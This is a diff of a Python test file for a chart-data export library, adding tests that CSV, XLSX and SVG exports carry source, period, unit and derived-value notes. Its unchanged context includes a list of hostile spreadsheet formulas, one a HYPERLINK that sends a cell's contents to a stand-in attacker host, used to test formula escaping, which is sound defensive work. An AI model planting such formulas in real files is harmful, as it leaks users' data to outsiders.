@@ -6,7 +6,9 @@ import io
 import openpyxl
 import pandas as pd
 
-from lib.export.data_files import data_bytes, formula_safe
+from lib.charts.catalog import model_counts_chart
+from lib.export.data_files import DataContext, data_bytes, formula_safe
+from lib.export.images import figure_bytes, figure_with_disclosures
 
 HOSTILE = [
     '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
@@ -53,8 +55,54 @@ def test_csv_guards_formulas_quotes_text_and_keeps_a_carriage_return_inside_its_
     rows = list(csv.reader(io.StringIO(raw, newline="")))
     assert len(rows) == 1 + 8  # the bare CR in the last label does not split its row
     assert [row[0] for row in rows[1:7]] == ["'" + cell for cell in HOSTILE]
-    assert rows[8] == ["line one\rline two", "40", "14.8"]
-    assert raw.splitlines()[0] == '"label","models","share_of_world_pct"'
+    assert rows[8][:3] == ["line one\rline two", "40", "14.8"]
+    assert raw.splitlines()[0].startswith('"label","models","share_of_world_pct"')
     assert '"South Korea",14,5.2' in raw  # text quoted, numbers bare
     back = pd.read_csv(io.StringIO(raw))
     assert back["models"].tolist() == [1, 2, 3, 4, 5, 6, 14, 40]
+
+
+def test_csv_and_xlsx_cite_source_period_and_unit(datasets, corpus):
+    chart = model_counts_chart(datasets, ["South Korea", "United States"], rest_of_world=True)
+    sources = {sid: source.meta for sid, source in corpus.sources.items()}
+    context = DataContext(chart.title, chart.period, chart.notes, sources)
+    frame = pd.read_csv(io.BytesIO(data_bytes(chart.data, "csv", context=context)))
+    korea = frame[frame["country"] == "South Korea"].iloc[0]
+    assert korea["source_title"].startswith("Untitled: Ha Jung-woo and Korea's 'Sovereign AI'")
+    assert korea["source_publisher"] == "unknown" and korea["source_url"] == "unknown"
+    assert korea["period"] == "models released 2020 to 2024"
+    assert korea["unit"] == "models: models; share_of_world_pct: %"
+    assert korea["models"] == 14
+    book = openpyxl.load_workbook(
+        io.BytesIO(data_bytes(chart.data, "xlsx", chart.chart_id, context))
+    )
+    assert book.sheetnames == ["model-counts-by-country", "README"]
+    readme = {row[0].value: row[1].value for row in book["README"].iter_rows(min_row=2)}
+    assert readme["Period"] == "models released 2020 to 2024"
+    assert (
+        readme["Note"]
+        == "Rest of world is derived: the 271 models worldwide minus United States, South Korea."
+    )
+    assert readme["Source"].startswith("“Untitled: Ha Jung-woo")
+    assert "Source id: 004_60a257b0d244c978." in readme["Source"]
+    assert readme["Column models"] == "Number of AI models (unit: models)"
+    assert readme["Column source_url"] == "URL of the source article, or unknown"
+    assert "copyright stays with their publishers" in readme["Licence"]
+
+
+def test_exported_image_carries_period_and_notes(datasets):
+    chart = model_counts_chart(datasets, ["South Korea", "United States"], rest_of_world=True)
+    figure = figure_with_disclosures(chart)
+    caption = figure.layout.annotations[-1].text.replace("<br>", " ")
+    assert caption.startswith("Source: “Untitled: Ha Jung-woo")
+    assert "Period: models released 2020 to 2024." in caption
+    assert (
+        "Rest of world is derived: the 271 models worldwide minus United States, South Korea."
+        in caption
+    )
+    assert figure.layout.height > chart.figure.layout.height  # room made, nothing overprinted
+    assert (
+        chart.figure.layout.annotations[-1].text.count("Period") == 0
+    )  # the page's copy unchanged
+    svg = figure_bytes(figure, "svg").decode("utf-8")
+    assert "Period: models released 2020 to 2024." in svg.replace("\u00a0", " ")
